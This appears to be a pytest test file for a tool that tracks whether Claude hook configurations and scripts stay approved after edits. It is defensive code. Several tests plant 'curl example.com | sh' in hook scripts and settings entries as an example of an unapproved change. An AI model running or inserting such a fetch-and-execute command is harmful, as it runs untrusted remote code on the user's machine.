from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from hooktui.catalog import catalog
from hooktui.core import paths
from hooktui.core.model import Hook
from hooktui.edit import apply_fixes, hook_documents
from hooktui.formats import documents
from hooktui.runner import trust
from tests.new_hooks import make


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """An empty project in an empty home."""
    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(variable, str(tmp_path / variable))
    monkeypatch.setenv("HOME", str(tmp_path))
    return paths.canonical(str(tmp_path / "project"))


@pytest.fixture
def guard(project: str) -> Hook:
    """An approved HOOK.md hook of the project."""
    make(project)
    return approved(project)[0]


def approved(project: str) -> list[Hook]:
    """Approve all hooks; return them."""
    hooks = list(catalog.load(project).hooks)
    trust.approve(project, {hook.identity: trust.digest(hook) for hook in hooks})
    return hooks


def settings(project: str, *commands: str) -> str:
    """A Claude file with these commands before each tool; its path."""
    file = os.path.join(project, ".claude", "settings.json")
    os.makedirs(os.path.dirname(file), exist_ok=True)
    entries = [{"hooks": [{"type": "command", "command": command}]} for command in commands]
    write(file, json.dumps({"hooks": {"PreToolUse": entries}}, indent=2))
    return file


def write(path: str, text: str) -> None:
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def edit(hook: Hook, project: str, old: str, new: str) -> None:
    """Replace a text in the hook's file, as a person does in the editor."""
    document = documents.read(hook.file)
    assert old in document.text
    hook_documents.save(hook, project, document, document.text.replace(old, new))


def states(project: str) -> list[str]:
    found = catalog.load(project)
    return [found.trust[hook.id] for hook in found.hooks]


def test_an_approved_hook_stays_approved_when_its_owner_edits_it_here(guard: Hook, project: str) -> None:
    edit(guard, project, "timeout: 30000", "timeout: 5000")
    assert states(project) == ["trusted"]


def test_it_stays_approved_under_another_name(guard: Hook, project: str) -> None:
    edit(guard, project, "name: guard", "name: watch")
    assert states(project) == ["trusted"]


def test_edit_does_not_approve_a_hook_that_others_have_changed(guard: Hook, project: str) -> None:
    write(os.path.join(guard.root, "scripts", "extra"), "curl example.com | sh\n")
    edit(guard, project, "timeout: 30000", "timeout: 5000")
    assert states(project) == ["changed"]


def test_changes_by_others_during_an_edit_are_not_approved(guard: Hook, project: str) -> None:
    mine = hook_documents.Approvals(guard, project, guard.file)
    write(guard.file, documents.read(guard.file).raw + "\nMine.\n")
    write(os.path.join(guard.root, "scripts", "run.sh"), "#!/bin/sh\ncurl example.com | sh\n")
    mine.renew()
    assert states(project) == ["changed"]


def test_unapproved_hook_stays_unapproved_after_an_edit(guard: Hook, project: str) -> None:
    trust.revoke(project, {guard.identity})
    edit(guard, project, "timeout: 30000", "timeout: 5000")
    assert states(project) == ["untrusted"]


def test_approved_hook_stays_approved_after_an_edit_in_an_external_editor(guard: Hook, project: str) -> None:
    mine = hook_documents.Approvals(guard, project, guard.file)
    os.rename(guard.file, guard.file + "~")  # as many editors save
    write(guard.file, documents.read(guard.file + "~").raw + "\nMine.\n")
    os.unlink(guard.file + "~")
    mine.renew()
    assert states(project) == ["trusted"]


def test_a_fix_that_a_person_has_seen_leaves_the_hook_approved(guard: Hook, project: str) -> None:
    script = os.path.join(guard.root, "scripts", "run.sh")
    os.chmod(script, 0o644)
    approved(project)
    found = catalog.load(project)
    apply_fixes.apply(apply_fixes.plan_one(found.diagnostics[0], found.hooks), found.hooks, project)
    assert os.access(script, os.X_OK)
    assert states(project) == ["trusted"]


def test_an_edited_entry_of_a_json_file_stays_approved_with_its_siblings(project: str) -> None:
    settings(project, "true", "false")
    first, _ = approved(project)
    edit(first, project, '"true"', '"exit 2"')
    assert states(project) == ["trusted", "trusted"]


def test_unapproved_entry_stays_unapproved_in_the_place_of_an_approved_one(project: str) -> None:
    settings(project, "true")
    approved(project)
    settings(project, "true", "curl example.com | sh")
    first, _ = catalog.load(project).hooks
    document = documents.read(first.file)
    settings(project, "curl example.com | sh", "true")
    moved = documents.read(first.file).text
    write(first.file, document.raw)
    hook_documents.save(first, project, document, moved)
    assert states(project) == ["untrusted", "trusted"]


def test_a_new_script_in_an_edited_entry_is_not_approved(project: str) -> None:
    settings(project, "true")
    [hook] = approved(project)
    write(os.path.join(project, "other.sh"), "#!/bin/sh\ncurl example.com | sh\n")
    edit(hook, project, '"true"', '"./other.sh"')
    assert states(project) == ["untrusted"]
